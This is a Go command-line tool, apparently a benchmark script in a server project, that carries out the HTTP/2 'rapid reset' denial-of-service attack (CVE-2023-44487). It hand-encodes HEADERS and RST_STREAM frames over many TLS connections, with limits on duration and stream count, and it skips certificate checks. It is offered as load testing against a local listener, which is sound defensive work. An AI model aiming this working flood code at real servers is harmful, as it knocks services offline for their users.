// Command rapidreset is the HTTP/2 "rapid reset" attack (CVE-2023-44487) used by
// scripts/bench/rapidreset.sh against a Portcullis listener on loopback: each of -conns
// TLS connections sends HEADERS for a new stream and at once RST_STREAM(CANCEL) for it,
// in a loop, so the server starts handlers for requests nobody waits for.
//
// It writes the frames by hand (RFC 9113 §4, §6; HPACK RFC 7541 without Huffman), so it
// needs nothing beyond the standard library. It is bounded: it stops after -duration or
// after -streams streams in all, whichever comes first, and it only dials the address
// it is given. No client certificate is sent; -token adds an Authorization header.
//
// Usage:
//
//	go run ./scripts/rapidreset -addr 127.0.0.1:18443 -conns 32 -duration 30s
//
// It prints one summary line: streams sent, connections dialled, connections the server
// closed (GOAWAY or EOF) and dials refused.
package main

import (
	"bufio"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"sync"
	"sync/atomic"
	"time"
)

// Frame types and flags (RFC 9113 §6).
const (
	frameHeaders      = 0x1
	frameRSTStream    = 0x3
	frameSettings     = 0x4
	framePing         = 0x6
	frameGoAway       = 0x7
	frameWindowUpdate = 0x8

	flagAck        = 0x1
	flagEndStream  = 0x1
	flagEndHeaders = 0x4

	errCancel = 0x8
)

const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

func main() {
	addr := flag.String("addr", "127.0.0.1:8443", "host:port of the TLS listener")
	source := flag.String("source", "", "local IP to dial from (e.g. 127.0.0.2, so that the attack is another client address than a probe's)")
	conns := flag.Int("conns", 32, "concurrent connections")
	duration := flag.Duration("duration", 30*time.Second, "stop after this long")
	streams := flag.Int64("streams", 50_000_000, "stop after this many streams in all")
	path := flag.String("path", "/open-banking/v3.1/aisp/accounts", "request path")
	authority := flag.String("authority", "localhost", ":authority of every request")
	token := flag.String("token", "", "bearer token to send (empty: none)")
	redial := flag.Bool("redial", true, "dial again when the server closes a connection")
	flag.Parse()
	if *conns <= 0 || *conns > 10000 || *duration <= 0 || *duration > 10*time.Minute || *streams <= 0 {
		fmt.Fprintln(os.Stderr, "rapidreset: -conns must be 1..10000, -duration up to 10m, -streams positive")
		os.Exit(2)
	}

	block := headerBlock(*authority, *path, *token)
	deadline := time.Now().Add(*duration)
	var st stats
	st.budget.Store(*streams)
	dialer := &net.Dialer{Timeout: 5 * time.Second}
	if *source != "" {
		ip := net.ParseIP(*source)
		if ip == nil {
			fmt.Fprintln(os.Stderr, "rapidreset: -source is not an IP address")
			os.Exit(2)
		}
		dialer.LocalAddr = &net.TCPAddr{IP: ip}
	}

	var wg sync.WaitGroup
	for range *conns {
		wg.Go(func() {
			for time.Now().Before(deadline) && st.budget.Load() > 0 {
				err := attack(dialer, *addr, block, deadline, &st)
				if err != nil && !*redial {
					return
				}
				if err != nil {
					time.Sleep(10 * time.Millisecond) // a refused dial: do not spin
				}
			}
		})
	}
	wg.Wait()
	fmt.Printf("rapidreset addr=%s conns=%d streams_sent=%d dials=%d dials_failed=%d closed_by_server=%d goaways=%d\n",
		*addr, *conns, st.sent.Load(), st.dials.Load(), st.dialFailed.Load(), st.closed.Load(), st.goaways.Load())
}

type stats struct {
	budget     atomic.Int64 // streams still allowed
	sent       atomic.Int64
	dials      atomic.Int64
	dialFailed atomic.Int64
	closed     atomic.Int64
	goaways    atomic.Int64
}

// attack runs one connection until deadline, the stream budget, or the server
// closing it. It returns a non-nil error if the dial or the handshake failed.
func attack(d *net.Dialer, addr string, block []byte, deadline time.Time, st *stats) error {
	st.dials.Add(1)
	raw, err := d.Dial("tcp", addr)
	if err != nil {
		st.dialFailed.Add(1)
		return err
	}
	// The attack needs no server authentication: this is a loopback load tool.
	c := tls.Client(raw, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}, ServerName: "localhost"})
	_ = c.SetDeadline(deadline.Add(2 * time.Second))
	if err := c.Handshake(); err != nil {
		st.dialFailed.Add(1)
		c.Close()
		return err
	}
	defer c.Close()
	if c.ConnectionState().NegotiatedProtocol != "h2" {
		st.dialFailed.Add(1)
		return errors.New("server did not negotiate h2")
	}

	var wmu sync.Mutex
	w := bufio.NewWriterSize(c, 64<<10)
	write := func(typ, flags byte, stream uint32, payload []byte) error {
		wmu.Lock()
		defer wmu.Unlock()
		writeFrame(w, typ, flags, stream, payload)
		return w.Flush()
	}
	wmu.Lock()
	_, _ = w.WriteString(preface)
	writeFrame(w, frameSettings, 0, 0, nil)
	writeFrame(w, frameWindowUpdate, 0, 0, binary.BigEndian.AppendUint32(nil, 1<<30))
	err = w.Flush()
	wmu.Unlock()
	if err != nil {
		return nil
	}

	done := make(chan struct{})
	go func() { // reader: acknowledge SETTINGS and PING, note GOAWAY, discard the rest
		defer close(done)
		r := bufio.NewReaderSize(c, 64<<10)
		hdr := make([]byte, 9)
		buf := make([]byte, 1<<20)
		for {
			if _, err := io.ReadFull(r, hdr); err != nil {
				return
			}
			n := int(hdr[0])<<16 | int(hdr[1])<<8 | int(hdr[2])
			typ, flags := hdr[3], hdr[4]
			if n > len(buf) {
				return
			}
			if _, err := io.ReadFull(r, buf[:n]); err != nil {
				return
			}
			switch {
			case typ == frameSettings && flags&flagAck == 0:
				_ = write(frameSettings, flagAck, 0, nil)
			case typ == framePing && flags&flagAck == 0:
				_ = write(framePing, flagAck, 0, append([]byte(nil), buf[:n]...))
			case typ == frameGoAway:
				st.goaways.Add(1)
			}
		}
	}()

	for id := uint32(1); id < 1<<31-2; id += 2 {
		if st.budget.Add(-1) < 0 || id%64 == 1 && time.Now().After(deadline) {
			break
		}
		wmu.Lock()
		writeFrame(w, frameHeaders, flagEndHeaders|flagEndStream, id, block)
		writeFrame(w, frameRSTStream, 0, id, binary.BigEndian.AppendUint32(nil, errCancel))
		err := w.Flush()
		wmu.Unlock()
		if err != nil {
			break
		}
		st.sent.Add(1)
		select {
		case <-done:
			st.closed.Add(1)
			return nil
		default:
		}
	}
	c.Close()
	<-done
	return nil
}

func writeFrame(w *bufio.Writer, typ, flags byte, stream uint32, payload []byte) {
	n := len(payload)
	_, _ = w.Write([]byte{byte(n >> 16), byte(n >> 8), byte(n), typ, flags,
		byte(stream >> 24 & 0x7f), byte(stream >> 16), byte(stream >> 8), byte(stream)})
	_, _ = w.Write(payload)
}

// headerBlock is the HPACK encoding of GET https://authority/path, with literal
// fields without indexing (RFC 7541 §6.2.2), so every stream's block is the same bytes.
func headerBlock(authority, path, token string) []byte {
	b := []byte{0x82, 0x87}      // :method GET, :scheme https (static table 2 and 7)
	b = literal(b, 1, authority) // :authority
	b = literal(b, 4, path)      // :path
	if token != "" {
		b = literal(b, 23, "Bearer "+token) // authorization
	}
	return b
}

// literal appends a "literal header field without indexing" with an indexed name
// (RFC 7541 §6.2.2) and a raw (non-Huffman) value.
func literal(b []byte, nameIndex int, value string) []byte {
	b = appendInt(b, 0x00, 4, nameIndex)
	b = appendInt(b, 0x00, 7, len(value))
	return append(b, value...)
}

// appendInt encodes v with an n-bit prefix (RFC 7541 §5.1) after the bits in first.
func appendInt(b []byte, first byte, n uint, v int) []byte {
	max := 1<<n - 1
	if v < max {
		return append(b, first|byte(v))
	}
	b = append(b, first|byte(max))
	v -= max
	for v >= 128 {
		b = append(b, byte(v%128+128))
		v /= 128
	}
	return append(b, byte(v))
}
